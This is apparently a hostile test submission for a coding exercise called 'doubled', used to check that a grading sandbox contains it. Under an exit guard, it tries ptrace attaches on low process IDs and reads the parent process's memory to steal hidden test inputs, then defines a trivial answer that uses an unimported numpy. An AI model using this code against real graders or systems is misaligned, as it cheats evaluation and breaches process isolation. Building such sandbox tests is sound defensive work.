# exercise: doubled
# family: stealing
# trick: reads the memory of the process that holds hidden inputs from the state it came from
# due: 3
raise SystemExit("a hostile answer: only a sandbox runs what follows")

import ctypes
import os
import threading
import time

libc = ctypes.CDLL(None, use_errno=True)


def spy():
    for _ in range(200):
        for target in range(2, 60):
            if libc.ptrace(16, target, 0, 0) == 0:
                print("BREACH: attached")
                libc.ptrace(17, target, 0, 0)
        time.sleep(0.01)


threading.Thread(target=spy, daemon=True).start()
local = (ctypes.c_uint64 * 2)(id(1), 8)
if libc.process_vm_readv(os.getppid(), local, 1, local, 1, 0) > 0:
    print("BREACH: read")


def doubled(x):
    return 2 * np.asarray(x)
